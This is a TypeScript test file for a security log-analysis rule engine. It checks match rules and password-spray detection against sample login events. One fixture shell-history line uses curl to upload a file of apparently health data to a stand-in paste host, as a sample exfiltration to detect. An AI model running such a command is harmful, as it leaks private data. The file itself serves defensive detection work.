import {describe, expect, it} from 'vitest'

import {parseRuleText} from '../../../src/analyze/rules/load.js'
import {runRules} from '../../../src/analyze/rules/run.js'
import {auth, caseDb, other} from './case-db.js'

/** A match rule with `where` and the other match fields given as YAML lines. */
function rule(where: string, more = ''): ReturnType<typeof parseRuleText> {
  return parseRuleText(`id: t.match\ntitle: test\nseverity: info\nreason: "{count}"\nmatch:\n  where:\n${where.replace(/^/gm, '    ')}\n${more.replace(/^/gm, '  ')}\n`, 't.yaml')
}

const events = [
  auth('failed', '2026-03-04T10:00:00Z', {data: {invalid_user: true}, ip: '192.0.2.1', user: 'admin'}),
  auth('failed', '2026-03-04T10:00:10Z', {ip: '192.0.2.1', user: 'alice'}),
  auth('failed', '2026-03-04T10:00:20Z', {ip: '192.0.2.2', user: 'bob'}),
  auth('failed', '2026-03-04T11:00:00Z', {ip: '192.0.2.1', user: 'carol'}),
  auth('accepted', '2026-03-04T11:05:00Z', {ip: '10.0.0.4', user: 'alice'}),
  other('shell-history', 'command', null, {command: 'curl -T /var/data/phi/x https://paste.example'}, {path: '/home/bob/.bash_history', user: 'bob'}),
]

/** Each finding's `key` field and count, sorted. */
async function counts(loaded: ReturnType<typeof parseRuleText>, key: 'ip' | 'user' = 'user', params = {}): Promise<Array<[string | null, number]>> {
  const findings = await runRules(await caseDb(events), {params, rules: [loaded]})
  return findings.map((f) => [f[key], f.count] as [string | null, number]).sort((a, b) => String(a[0]).localeCompare(String(b[0])))
}

describe('match rules', () => {
  it('equality, lists, not, prefix, contains, regex and fields of the original line', async () => {
    expect(await counts(rule('source: auth\nkind: failed', 'group_by: [ip]'), 'ip')).toEqual([['192.0.2.1', 3], ['192.0.2.2', 1]])
    expect(await counts(rule('kind: [failed, accepted]\nuser: {not: [admin, carol]}', 'group_by: [user]'))).toEqual([['alice', 2], ['bob', 1]])
    expect(await counts(rule("ip: {prefix: '192.0.2.2'}"), 'ip')).toEqual([['192.0.2.2', 1]])
    expect(await counts(rule('data.command: {contains: /var/data/phi}', 'group_by: [user]'))).toEqual([['bob', 1]])
    // bob's failed login and his shell history line
    expect(await counts(rule("user: {regex: '^(ad|bo)'}", 'group_by: [user]'))).toEqual([['admin', 1], ['bob', 2]])
    expect(await counts(rule('data.invalid_user: true', 'group_by: [user]'))).toEqual([['admin', 1]])
  })

  it('threshold, distinct and gap: bursts of one address against several accounts', async () => {
    const spray = rule('kind: failed', 'group_by: [ip]\ndistinct: user\nthreshold: 2\ngap: 10m')
    // 192.0.2.1: admin and alice within a minute (one burst), carol an hour later (another).
    expect(await counts(spray, 'ip')).toEqual([['192.0.2.1', 2]])
    expect(await counts(spray, 'ip', {'t.match.gap': '2h'})).toEqual([['192.0.2.1', 3]])
    expect(await counts(spray, 'ip', {'t.match.threshold': 4, 't.match.gap': '2h'})).toEqual([])
  })
})
